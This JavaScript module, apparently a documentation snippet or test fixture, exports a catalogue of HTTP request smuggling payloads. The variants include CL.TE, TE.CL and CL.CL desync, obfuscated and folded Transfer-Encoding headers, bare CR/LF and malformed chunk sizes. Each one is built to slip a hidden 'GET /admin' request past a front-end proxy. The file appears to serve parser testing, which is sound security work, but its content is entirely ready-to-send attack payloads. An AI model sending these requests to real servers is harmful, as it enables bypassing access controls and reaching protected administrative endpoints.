// --8<-- [start:smuggled]
const HIDDEN = 'GET /admin HTTP/1.1\r\nHost: shop\r\n\r\n';
const TE = 'Transfer-Encoding: chunked';
const end = `0\r\n\r\n${HIDDEN}`; // the end of a chunked body, and one more
const chunk = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
const post = (headers, body) =>
  `POST / HTTP/1.1\r\nHost: shop\r\n${headers.join('\r\n')}\r\n\r\n${body}`;
const length = (n) => `Content-Length: ${n}`;

/** Bytes that two parsers may cut into requests at different places. What is
 * to be hidden from the one in front is `/admin`. */
export const PAYLOADS = {
  plain: post([length(3)], 'abc'),
  'CL.TE': post([length(end.length), TE], end),
  'TE.CL': post([length(4), TE], chunk),
  'CL.CL': post([length(0), length(HIDDEN.length)], HIDDEN),
  'TE: xchunked': post(
    [length(end.length), 'Transfer-Encoding: xchunked'],
    end,
  ),
  'TE: chunked, identity': post([`${TE}, identity`], end),
  'TE before the colon': post(
    [length(end.length), 'Transfer-Encoding : chunked'],
    end,
  ),
  'TE folded': post(
    [length(end.length), 'Transfer-Encoding:\r\n chunked'],
    end,
  ),
  'folded header': post([length(0), 'X-Note: a\r\n b'], ''),
  'bare LF for CRLF': `GET / HTTP/1.1\nHost: shop\n\n`,
  'bare CR in a value': post([length(0), 'X-Note: a\rX-Admin: yes'], ''),
  'LF in a chunk extension': post([TE], `2;\nxx\r\n10\r\n\r\n${end}`),
  'chunk size 0x5': post([TE], `0x5\r\nabcde\r\n${end}`),
  'Content-Length: +3': post(['Content-Length: +3'], 'abc'),
  'no CRLF after the chunk': post([TE], `3\r\nabc${end}`),
};
// --8<-- [end:smuggled]
